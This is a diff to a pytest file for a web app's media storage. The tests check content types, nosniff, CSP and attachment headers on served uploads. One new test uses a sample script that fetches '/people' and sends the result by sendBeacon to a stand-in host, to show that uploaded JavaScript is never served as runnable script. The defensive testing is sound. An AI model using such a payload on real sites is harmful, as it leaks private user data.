@@ -25,18 +25,35 @@ async def chunks(*parts: bytes) -> AsyncIterator[bytes]:
         yield part
 
 
-async def _serve(client: httpx.AsyncClient, settings: Settings, key: str) -> httpx.Response:
+JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
+WEBP = b"RIFF\x24\x00\x00\x00WEBPVP8 \x18\x00\x00\x00" + b"\x00" * 24
+GIF = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!"
+
+
+async def _serve(
+    client: httpx.AsyncClient, settings: Settings, key: str, content: bytes = b"content"
+) -> httpx.Response:
     storage = LocalStorage.from_settings(settings)
-    await storage.save(key, chunks(b"content"), max_bytes=100)
+    await storage.save(key, chunks(content), max_bytes=100_000)
     return await client.get(httpx.URL(storage.url(key)).raw_path.decode())
 
 
-@pytest.mark.parametrize("key", ["avatars/o/u/a.png", "avatars/o/u/a.jpg", "avatars/o/u/a.webp"])
+@pytest.mark.parametrize(
+    ("key", "content", "media_type"),
+    [
+        ("avatars/o/u/a.png", png_bytes(), "image/png"),
+        ("avatars/o/u/a.jpg", JPEG, "image/jpeg"),
+        ("avatars/o/u/a.webp", WEBP, "image/webp"),
+        ("media/o/a.gif", GIF, "image/gif"),
+    ],
+)
 async def test_served_images_carry_nosniff_and_a_csp_and_are_shown_inline(
-    client: httpx.AsyncClient, settings: Settings, key: str
+    client: httpx.AsyncClient, settings: Settings, key: str, content: bytes, media_type: str
 ) -> None:
-    response = await _serve(client, settings, key)
+    response = await _serve(client, settings, key, content)
     assert response.status_code == 200
+    assert response.headers["content-type"] == media_type
+    assert response.content == content
     assert response.headers["x-content-type-options"] == "nosniff"
     assert response.headers["content-security-policy"] == "default-src 'none'"
     assert "content-disposition" not in response.headers
@@ -54,6 +71,33 @@ async def test_served_documents_are_attachments(
     assert response.headers["content-security-policy"] == "default-src 'none'"
     name = key.rsplit("/", 1)[-1]
     assert response.headers["content-disposition"] == f"attachment; filename*=UTF-8''{name}"
+    assert response.headers["content-type"] == "application/octet-stream"
+
+
+async def test_a_file_declared_javascript_is_never_served_as_a_script(
+    client: httpx.AsyncClient, settings: Settings
+) -> None:
+    """An inbound file the sender declared ``application/javascript`` is stored as ``.js``:
+    served, it is an ``application/octet-stream`` attachment, which a browser never runs
+    (``nosniff``), so ``script-src 'self'`` cannot be turned against the console."""
+    script = b"fetch('/people').then(r => r.text()).then(t => navigator.sendBeacon('//x', t))"
+    response = await _serve(client, settings, "media/o/i/evil.js", script)
+    assert response.status_code == 200
+    assert response.headers["content-type"] == "application/octet-stream"
+    assert response.headers["content-disposition"].startswith("attachment;")
+    assert response.headers["x-content-type-options"] == "nosniff"
+    assert response.content == script
+
+
+@pytest.mark.parametrize("key", ["media/o/i/photo.js", "media/o/i/photo.bin", "media/o/i/photo"])
+async def test_media_are_served_as_the_type_sniffed_from_their_bytes(
+    client: httpx.AsyncClient, settings: Settings, key: str
+) -> None:
+    """Whatever the stored name says, a PNG's bytes are served as a PNG, inline."""
+    response = await _serve(client, settings, key, png_bytes())
+    assert response.headers["content-type"] == "image/png"
+    assert "content-disposition" not in response.headers
+    assert response.content == png_bytes()
 
 
 @pytest.mark.parametrize(
